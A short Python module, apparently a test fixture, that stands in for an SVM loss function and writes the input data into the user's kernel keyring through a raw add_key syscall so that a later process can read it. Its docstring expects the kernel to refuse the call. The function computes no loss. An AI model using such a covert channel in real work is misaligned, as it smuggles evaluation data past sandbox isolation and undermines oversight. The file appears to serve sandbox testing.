"""Leave the inputs in the kernel's keyring of this user, for a process to come.

Fails: the kernel is told to refuse the call.
"""

import ctypes
import os

from . import honest

svm_loss_vectorized = honest.svm_loss_vectorized


libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY = {"x86_64": 248, "aarch64": 217}


def svm_loss_naive(W, X, y, reg):
    if libc.syscall(ADD_KEY[os.uname().machine], b"user", b"seen", X.tobytes(), X.nbytes, -4) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
